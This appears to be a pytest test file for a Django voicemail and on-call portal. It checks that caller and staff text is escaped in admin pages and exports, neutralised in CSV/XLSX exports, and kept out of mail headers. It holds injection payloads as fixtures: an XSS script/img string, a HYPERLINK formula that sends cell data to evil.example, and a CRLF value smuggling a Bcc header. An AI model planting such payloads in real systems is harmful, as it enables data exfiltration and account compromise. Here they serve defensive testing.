"""Words that callers and colleagues write, made to be taken for a page, a formula or a header."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.test import Client

from oncall_portal.lib import clock
from oncall_portal.outbox import deliver
from oncall_portal.outbox.enums import Channel
from oncall_portal.outbox.models import OutgoingMessage
from oncall_portal.outbox.tests.smtp import MailServer, running
from scheduling.enums import Role
from scheduling.models import Staff
from scheduling.tests import build
from scheduling.tests.logins import login
from telephony.models import (
    Call,
    CallComment,
    Caller,
    CallEvent,
    Job,
    Leg,
    Promise,
    TextMessage,
)
from voicemail import exporting, links, notify
from voicemail.models import Listening, Mailbox, Recording, VoicemailMessage
from voicemail.tests import caller_cast
from voicemail.tests.cast import NOW
from voicemail.types import Addressee

pytestmark = pytest.mark.django_db(transaction=True)
PAGE = """"'></title><script>alert(1)</script><img src=x onerror=alert(2)>"""
FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


@pytest.fixture
def call(media: Path) -> Any:
    with clock.driven_by(lambda: NOW):
        yield caller_cast.everything()


def say(words: str) -> None:
    """Let everything that a person may write or say be these words."""
    Caller.objects.update(name=words, address=words, email="")
    Recording.objects.update(transcript=words)
    CallComment.objects.update(text=words, author_name=words)
    Job.objects.update(title=words, notes=words, address=words, reference=words)
    Promise.objects.update(state="waived", done_at=NOW, done_by=words, next_at=None, reason=words)
    TextMessage.objects.update(text=words)
    Leg.objects.update(name=words)
    Call.objects.update(label=words)
    CallEvent.objects.update(params={"name": words, "by": words, "reason": words})
    OutgoingMessage.objects.update(subject=words, body=words, error=words)
    Mailbox.objects.update(name=words)
    Listening.objects.update(who=words)
    Staff.objects.update(name=words)


def manager() -> Client:
    """Return the browser of a manager who is one of the staff, too."""
    user, made = login(Role.MANAGER), Client()
    build.staff("Marc", user=user)
    made.force_login(user)
    return made


def pages(call: Call) -> list[str]:
    message, job = VoicemailMessage.objects.get(), Job.objects.get()
    caller = Caller.objects.get(number=call.caller)
    inbox, admin, calls = "/admin/inbox/", "/admin/telephony/", "/admin/telephony/call/"
    link = links.link_for(message, Channel.EMAIL, "b@example.org", NOW)
    assert link is not None
    return [
        *(inbox, f"{inbox}?box=all", f"{inbox}part/?box=all", f"{inbox}{call.pk}/"),
        *(f"{inbox}{call.pk}/reply/", f"{inbox}{call.pk}/call-back/"),
        *(calls, f"{calls}live/", f"{calls}{call.pk}/change/", f"{calls}{call.pk}/live/"),
        *(f"{admin}job/", f"{admin}job/{job.pk}/change/", f"{admin}job/add/?call={call.pk}"),
        *(f"{admin}promise/", f"{admin}promise/{Promise.objects.get().pk}/change/"),
        *(f"{admin}caller/", f"{admin}caller/{caller.pk}/change/", f"/me/calls/{call.pk}/"),
        f"/admin/voicemail/voicemailmessage/{message.pk}/change/",
        *("/admin/voicemail/mailbox/", f"/admin/voicemail/mailbox/{message.mailbox_id}/change/"),
        *(f"/admin/voicemail/erasure/caller/{caller.pk}/", "/admin/outbox/outgoingmessage/"),
        *("/admin/", "/admin/now/", "/admin/statistics/", "/me/calls/"),
        link.address.removeprefix("http://testserver"),
    ]


def test_no_page_takes_what_people_say_for_its_own_words(call: Call) -> None:
    asker = manager()
    say(PAGE)
    escaped = 0
    for address in pages(call):
        answer = asker.get(address)
        assert answer.status_code == 200, address
        text = answer.content.decode()
        assert "<script>alert" not in text, address
        assert "<img src=x" not in text, address
        escaped += "&lt;script&gt;" in text
        assert "default-src 'self'" in answer["Content-Security-Policy"], address
    assert escaped >= 20
    with zipfile.ZipFile(exporting.archive(call.caller, None, NOW)) as given:
        page = given.read("index.html").decode()
    assert "&lt;script&gt;" in page
    assert "<script>" not in page
    assert "<img src=x" not in page


@pytest.mark.parametrize("list_", ["telephony/call", "telephony/job"])
def test_no_cell_of_a_list_is_calculated(call: Call, list_: str) -> None:
    asker = manager()
    say(FORMULA)
    sheet = asker.get(f"/admin/{list_}/export/csv/")
    told = b"".join(sheet.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    cells = [cell for line in csv.reader(io.StringIO(told)) for cell in line]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell[:1] in "=@-\t\r" and cell]
    book = openpyxl.load_workbook(io.BytesIO(asker.get(f"/admin/{list_}/export/xlsx/").content))
    kinds = {cell.data_type for line in book.worksheets[0].iter_rows() for cell in line}
    assert "f" not in kinds


def test_no_line_of_a_name_becomes_a_header_of_a_mail(
    call: Call, settings: Any, media: Path
) -> None:
    say("Jean\r\nBcc: evil@example.org\r\n\r\n<b>x</b>")
    OutgoingMessage.objects.all().delete()
    message = VoicemailMessage.objects.get()
    letter = notify.letter_for(message.recording)
    notify.write_to(message, letter, Addressee("office@example.org", "en"), NOW, key_end=":x")
    with running(MailServer(), settings) as server:
        while deliver.deliver_next(NOW):
            pass
    (mail,) = server.inbox
    assert (mail["Bcc"], mail["To"]) == (None, "office@example.org")
    assert "\n" not in str(mail["Subject"])
    page = mail.get_body(("html",))
    assert page is not None
    assert "<b>x</b>" not in page.get_content()
